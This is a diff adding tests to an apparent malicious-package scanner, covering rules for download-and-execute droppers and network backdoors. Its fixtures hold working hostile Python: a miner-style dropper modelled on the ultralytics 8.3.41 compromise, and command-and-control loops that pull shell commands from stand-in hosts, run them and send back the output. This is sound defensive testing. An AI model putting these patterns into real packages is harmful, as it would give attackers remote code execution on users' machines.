@@ -138,6 +138,77 @@ def test_a_tool_fetched_from_one_fixed_https_address_is_high_not_critical() -> N
     assert severity("https://203.0.113.7/flamegraph.pl") == [Severity.CRITICAL]
 
 
+def test_a_download_helper_the_dropper_calls_is_linked_to_what_it_runs() -> None:
+    """ultralytics 8.3.41's shape: ``safe_download(url, exe)`` fetches and saves; the caller makes
+    the file executable and starts it. The caller's arguments say what is fetched and where."""
+    template = (
+        "import os, subprocess, urllib.request\n"
+        "def safe_download(url, file):\n"
+        "    urllib.request.urlretrieve(url, file)\n"
+        "def check_environment():\n"
+        "    exe = '/tmp/runner'\n"
+        "    safe_download('{url}', exe)\n"
+        "    os.chmod(exe, 0o755)\n"
+        "    subprocess.Popen([exe, '-B'])\n"
+    )
+
+    def severity(url: str) -> list[Severity]:
+        found = run(RULES, py(template.format(url=url), path="acme/utils.py", stage=Stage.RUNTIME))
+        return [f.severity for f in found if f.rule == "PV-DL-002"]
+
+    assert severity("http://203.0.113.5/xmr") == [Severity.CRITICAL]
+    assert severity("https://tools.example/runner") == [Severity.HIGH]
+    # A helper that only fetches text (no file saved) downloads no program.
+    reader = (
+        "import subprocess, urllib.request\n"
+        "def fetch(url):\n"
+        "    return urllib.request.urlopen(url).read()\n"
+        "def report():\n"
+        "    data = fetch('https://api.example/status')\n"
+        "    subprocess.run(['logger', 'status'])\n"
+    )
+    assert run(RULES, py(reader, path="acme/utils.py", stage=Stage.RUNTIME)) == []
+
+
+def test_a_shell_command_received_over_the_network_is_a_backdoor() -> None:
+    polling = (
+        "import subprocess, requests\n"
+        "def run():\n"
+        "    while True:\n"
+        "        task = requests.get('http://203.0.113.5:7000/task').json()\n"
+        "        kind, arg = task.get('type'), task.get('arg')\n"
+        "        out = subprocess.run(arg, shell=True, capture_output=True).stdout\n"
+        "        requests.post('http://203.0.113.5:7000/result', data=out)\n"
+    )
+    findings = run(RULES, py(polling, path="acme/utils.py", stage=Stage.RUNTIME))
+    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.CRITICAL)]
+    tunnel = (
+        "import subprocess, websocket\n"
+        "def tunnel():\n"
+        "    ws = websocket.create_connection('wss://tunnel.example.invalid/ws')\n"
+        "    while True:\n"
+        "        cmd = ws.recv()\n"
+        "        ws.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n"
+    )
+    assert ids(run(RULES, py(tunnel, path="acme/net.py", stage=Stage.RUNTIME))) == {"PV-DL-001"}
+    agent = (
+        "import subprocess, requests\n"
+        "def work(server):\n"
+        "    job = requests.get(server).json()\n"
+        "    subprocess.run(job['command'], shell=True)\n"
+    )
+    findings = run(RULES, py(agent, path="acme/agent.py", stage=Stage.RUNTIME))
+    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.HIGH)]
+    # A command the package spells itself, after a download, runs nothing that was downloaded.
+    fixed = (
+        "import subprocess, requests\n"
+        "def update():\n"
+        "    latest = requests.get('https://api.example/latest').json()['version']\n"
+        "    subprocess.run(['git', 'fetch', '--tags'])\n"
+    )
+    assert run(RULES, py(fixed, path="acme/agent.py", stage=Stage.RUNTIME)) == []
+
+
 def test_an_address_ending_in_dot_com_is_not_a_program_name() -> None:
     source = (
         "import urllib.request\n"
